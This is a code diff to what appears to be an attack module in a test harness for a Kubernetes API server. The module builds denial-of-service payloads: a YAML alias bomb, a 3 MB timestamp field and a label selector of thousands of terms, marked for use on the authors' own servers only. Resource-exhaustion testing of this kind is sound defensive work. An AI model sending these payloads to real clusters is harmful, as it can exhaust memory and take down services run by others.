@@ -12,7 +12,7 @@ function requestsTo(target: AttackTarget): readonly (readonly [Record<string, st
     ':method': 'POST',
     ':path': CONFIG_MAPS,
   });
-  const terms = Array.from({ length: 9_000 }, (_unused, index) => `label${index}`).join(',');
+  const terms = Array.from({ length: 5_000 }, (_unused, index) => `l${index}`).join(',');
   return [
     [post('application/yaml'), `a: &a "${'x'.repeat(200_000)}"\ndata:\n${'- *a\n'.repeat(20_000)}`],
     [post('application/json'), JSON.stringify({ metadata: { name: 'x', creationTimestamp: '1'.repeat(3_000_000) } })],
@@ -35,7 +35,8 @@ function requestsTo(target: AttackTarget): readonly (readonly [Record<string, st
 
 export const attack: Attack = {
   name: 'hostile-requests',
-  what: 'aliases that repeat text, a time of 3 MB, 900,000 finalizers, 9,000 terms of a selector over 2,000 objects, 9,000 patches',
+  what: 'aliases that repeat text, a time of 3 MB, 900,000 finalizers, 5,000 terms of a selector over 2,000 objects, 9,000 patches',
+  isForOursOnly: true, // kube-apiserver grows by 16 GB,
   async prepare(target) {
     const one = session(target);
     await fill(one, target, { count: 2_000, bytes: 100 });
